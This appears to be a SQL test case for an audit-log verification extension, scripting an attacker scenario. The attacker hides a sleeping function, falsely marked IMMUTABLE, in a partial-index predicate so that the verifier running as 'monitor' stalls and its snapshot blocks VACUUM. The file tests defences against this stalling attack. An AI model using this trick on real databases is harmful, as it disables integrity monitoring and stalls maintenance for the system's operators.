-- A function in an index of the attacker's own log sleeps while verify() plans the pass over it: verify() of everything
-- ends for nobody any more, and what it holds meanwhile (a snapshot) holds up VACUUM.
-- role: attacker
-- says: done
-- verify: intact
CREATE FUNCTION m.slow() RETURNS int LANGUAGE plpgsql AS $$
BEGIN
    IF current_setting('application_name') = 'monitor' THEN PERFORM pg_sleep(1000); END IF;
    RETURN 1;
END $$;
CREATE FUNCTION m.quiet(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN PERFORM m.slow(); RETURN $1; END $$;
CREATE INDEX evil ON m.mine (id) WHERE m.quiet(1) > 0;
\connect - postgres
SET application_name = 'monitor';
SET statement_timeout = '15s';
SELECT count(*) FROM audit_immutable.verify();
RESET application_name;
\connect - attacker
DROP INDEX m.evil;
